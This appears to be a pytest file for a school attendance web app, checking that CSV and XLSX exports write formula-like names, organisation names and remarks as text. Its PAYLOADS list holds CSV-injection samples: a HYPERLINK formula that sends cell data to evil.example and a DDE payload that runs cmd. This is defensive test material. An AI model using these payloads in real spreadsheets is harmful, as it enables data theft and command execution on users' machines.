"""Exports never carry a live formula (issue 8 item 7, SPEC W11, P6): a 备注, a name or an organisation that
starts with = + - @ tab or CR is written as text in the school's CSV and XLSX, read back from the files."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.blueprints.support import YESTERDAY
from tests.factories import declare, make_admin, make_org, make_person, make_school
from yks_web.services import membership
from yks_web.services.spreadsheets import safe_cell

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_day(db):
    """One class whose 备注 and names look like formulas; the organisation's name too."""
    school = make_school(db)
    admin = make_admin(db, school)
    org = make_org(db, school, make_person(db, "蒋小华"), members=len(PAYLOADS), name="=1+2")
    people = [m.person for m in membership.members(db.session, org.id)]
    for person, payload in zip(people, PAYLOADS, strict=True):
        declare(db, org, person, YESTERDAY, remarks=payload)
    people[0].name = "-陈某"
    db.session.commit()
    return school, admin


@pytest.mark.parametrize("payload", PAYLOADS)
def test_item7_safe_cell_prefixes_formula_starts_and_keeps_the_rest(payload):
    assert safe_cell(payload) == "'" + payload
    assert safe_cell("36.5℃") == "36.5℃" and safe_cell("黄恺") == "黄恺" and safe_cell("") == ""
    assert safe_cell(3) == 3


def test_item7_csv_export_writes_formula_like_cells_as_text(client, actions, hostile_day):
    school, admin = hostile_day
    actions.login(admin)
    response = client.get(f"/school/{school.id}/export/{YESTERDAY.isoformat()}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))[1:]
    assert sorted(r[-1] for r in rows) == sorted("'" + p for p in PAYLOADS)
    assert {r[0] for r in rows} == {"'=1+2"}
    assert "'-陈某" in {r[2] for r in rows}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_item7_xlsx_export_has_no_formula_cell(client, actions, hostile_day):
    school, admin = hostile_day
    actions.login(admin)
    response = client.get(f"/school/{school.id}/export/{YESTERDAY.isoformat()}.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    # Text cells hold exactly what was typed, with no apostrophe (review finding); XML reads a carriage
    # return back as a newline.
    remarks = [row[-1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in remarks)
    assert sorted(cell.value for cell in remarks) == sorted(p.replace("\r", "\n") for p in PAYLOADS)
    assert {row[0].value for row in sheet.iter_rows(min_row=2)} == {"=1+2"}
    assert "-陈某" in {row[2].value for row in sheet.iter_rows(min_row=2)}
